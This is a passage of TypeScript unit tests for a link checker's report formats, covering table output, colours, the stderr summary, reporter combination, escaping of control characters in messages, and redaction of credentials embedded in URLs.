  it('keeps changed rows apart, so rows still failing never crowd out the new ones', async () => {
    const still = [1, 2, 3, 4, 5].map((line) => result({ url: `https://s${line}.test/`, ok: false, status: 500, error: { code: 'HTTP_STATUS', message: 'HTTP 500' }, change: 'still-failing', line }));
    const fresh = result({ url: 'https://new.test/', ok: false, status: 410, error: { code: 'HTTP_STATUS', message: 'HTTP 410' }, change: 'newly-failing', line: 6 });
    const diff: DiffSummary = { ...DIFF, newlyFailing: 1, recovered: 0, stillFailing: 5 };
    for (const quiet of [false, true]) {
      const { ctx, out } = setup({ quiet });
      await run(createTableReporter(ctx, { healthy: 25, attention: 2 }), [...still, fresh], { summary: SUMMARY, comparison: null, diff });
      const text = await out();
      expect(text, `quiet: ${quiet}`).toContain('https://new.test/');
      expect(text.match(/https:\/\/s\d\.test\//g) ?? [], `quiet: ${quiet}`).toHaveLength(quiet ? 0 : 2);
      if (!quiet) expect(text).toContain('\n3 more URLs needing attention not listed; use --format csv or ndjson for every row\n');
    }
  });

  it('counts changed rows beyond the limit', async () => {
    const { ctx, out } = setup({ quiet: true });
    const fresh = [1, 2, 3].map((line) => result({ url: `https://n${line}.test/`, ok: false, status: 404, error: { code: 'HTTP_STATUS', message: 'HTTP 404' }, change: 'newly-failing', line }));
    await run(createTableReporter(ctx, { healthy: 25, attention: 1 }), fresh, { summary: SUMMARY, comparison: null, diff: { ...DIFF, newlyFailing: 3 } });
    expect(await out()).toContain('\n2 more changed URLs not listed; use --format csv or ndjson for every row\nsince last.json: 3 newly failing');
  });

  it('draws every verdict with its own symbol and word', async () => {
    const { ctx, out } = setup();
    const rows = [
      HEALTHY,
      MOVED,
      NOT_FOUND,
      REFUSED,
      BLOCKED,
    ];
    await run(createTableReporter(ctx), rows, { summary: SUMMARY, comparison: null, diff: null });
    const verdicts = (await out()).split('\n').flatMap((line) => /^│ (\S+ \w+)/.exec(line)?.[1] ?? []);
    expect(verdicts).toEqual(['✔ healthy', '↻ transient', '✖ broken', '⚠ warning', '⊘ blocked']);
  });

  it('colours verdicts and marks when colour is on', async () => {
    const { ctx, out } = setup({ color: new Chalk({ level: 1 }) });
    await run(createTableReporter(ctx), [MOVED, BLOCKED, { ...NOT_FOUND, change: 'newly-failing' }, RECOVERED], { summary: SUMMARY, comparison: null, diff: DIFF });
    const text = await out();
    expect(text).toContain('\u001b[33m⚠ warning\u001b[39m');
    expect(text).toContain('\u001b[34m⊘ blocked\u001b[39m');
    expect(text).toContain('\u001b[31m✖ broken\u001b[39m');
    expect(text).toContain('\u001b[31m\u001b[1mNEW\u001b[22m\u001b[39m');
    expect(text).toContain('\u001b[32m\u001b[1mRECOVERED\u001b[22m\u001b[39m');
  });

  it('escapes control characters in warning messages', async () => {
    const { ctx, out } = setup();
    const sneaky = result({ ...MOVED, warnings: [{ code: 'PERMANENT_REDIRECT', message: 'moved to https://d.test/\u001b[2Jx' }] });
    await run(createTableReporter(ctx), [sneaky], { summary: SUMMARY, comparison: null, diff: null });
    const text = await out();
    expect(text).toContain('moved to https://d.test/\\u001b[2Jx');
    expect(text).not.toContain('\u001b');
  });

  it('writes no escape codes with colour off', async () => {
    const { ctx, out } = setup();
    await run(createTableReporter(ctx), [...RESULTS, MOVED, BLOCKED, RECOVERED], { summary: SUMMARY, comparison: null, diff: DIFF });
    expect(await out()).not.toContain('\u001b');
  });
});

describe('stderr summary reporter', () => {
  it('writes the summary lines to err and nothing to out', async () => {
    const { ctx, out, err } = setup();
    await run(createStderrSummaryReporter(ctx), RESULTS);
    expect(await err()).toBe(`${SUMMARY_LINES.join('\n')}\n`);
    expect(await out()).toBe('');
  });

  it('uses the colours of err', async () => {
    const out = capture();
    const err = capture();
    const reporter = createStderrSummaryReporter({
      out: out.writer,
      err: err.writer,
      color: NO_COLOR,
      errColor: new Chalk({ level: 1 }),
      quiet: false,
    });
    await run(reporter, []);
    expect(await err.text()).toContain('\u001b[');
  });
});

describe('combineReporters', () => {
  it('calls each reporter\'s hooks in order, skipping hooks a reporter lacks', async () => {
    const calls: string[] = [];
    const a: Reporter = {
      onRunStart: (meta) => void calls.push(`a start ${meta.version}`),
      onResult: (r) => void calls.push(`a result ${r.line}`),
    };
    const b: Reporter = {
      onResult: (r) => void calls.push(`b result ${r.line}`),
      onBaselineStart: (info) => void calls.push(`b baseline ${info.sampleSize} ${info.estimated}`),
      onRunEnd: (end) => void calls.push(`b end ${end.summary.total}`),
    };
    const combined = combineReporters([a, b]);
    expect(combined.onRunStart(META)).toBeUndefined();
    expect(combined.onResult(HEALTHY)).toBeUndefined();
    expect(combined.onBaselineStart({ sampleSize: 5, estimated: true })).toBeUndefined();
    expect(combined.onRunEnd({ summary: SUMMARY, comparison: null, diff: null })).toBeUndefined();
    expect(calls).toEqual(['a start 1.2.3', 'a result 1', 'b result 1', 'b baseline 5 true', 'b end 6']);
  });

  it('returns a promise only when a hook asks to wait, and it waits for all of them', async () => {
    const releases: Array<() => void> = [];
    const waiting = (): Reporter => ({
      onResult: () =>
        new Promise<void>((resolve) => {
          releases.push(resolve);
        }),
    });
    const combined = combineReporters([waiting(), {}, waiting()]);
    const pending = combined.onResult(HEALTHY);
    expect(pending).toBeInstanceOf(Promise);
    let done = false;
    void (pending as Promise<void>).then(() => {
      done = true;
    });
    releases[0]?.();
    await new Promise((resolve) => setImmediate(resolve));
    expect(done).toBe(false);
    releases[1]?.();
    await pending;
    expect(done).toBe(true);
  });

  it('calls hooks with the reporter as `this`', () => {
    class Counting implements Reporter {
      count = 0;
      onResult(): void {
        this.count += 1;
      }
    }
    const counting = new Counting();
    combineReporters([counting]).onResult(HEALTHY);
    expect(counting.count).toBe(1);
  });

  it('is a no-op over an empty list', () => {
    expect(combineReporters([]).onRunEnd({ summary: SUMMARY, comparison: null, diff: null })).toBeUndefined();
  });
});

describe('the reporter registry', () => {
  it('has one factory per --format choice', () => {
    expect(Object.keys(reporters).sort()).toEqual([...FORMATS].sort());
    for (const format of FORMATS) {
      const { ctx } = setup();
      expect(typeof reporters[format](ctx)).toBe('object');
    }
  });
});

describe('credentials never reach a report', () => {
  it('shows https://user:secret@host/ redacted in every format', async () => {
    const target = parseTarget('https://user:secret@creds.test/path?q=1', 'list.txt', 1);
    const url = target?.url;
    if (target === null || url === null || url === undefined) throw new Error('expected a URL target');
    expect(url.password).toBe('secret');
    const redirectTo = new URL('https://user:secret@creds.test/next');
    const results = [
      result({ url: target.display, finalUrl: redactUrl(url), line: 1 }),
      result({
        url: target.display,
        redirects: [{ status: 302, location: redactUrl(redirectTo) }],
        finalUrl: redactUrl(redirectTo),
        line: 2,
      }),
      result({
        url: target.display,
        ok: false,
        status: null,
        error: { code: 'UNKNOWN', message: redactText(`request to ${url.href} failed`) },
        finalUrl: null,
        method: null,
        line: 3,
      }),
    ];
    for (const format of FORMATS) {
      const { ctx, out, err } = setup();
      const combined = combineReporters([reporters[format](ctx), createStderrSummaryReporter(ctx)]);
      await run(combined, results, { summary: SUMMARY, comparison: null, diff: null });
      const text = (await out()) + (await err());
      expect(text, format).toContain('https://***@creds.test/path?q=1');
      expect(text, format).not.toContain('secret');
      expect(text, format).not.toContain('user:');
    }
  });
});
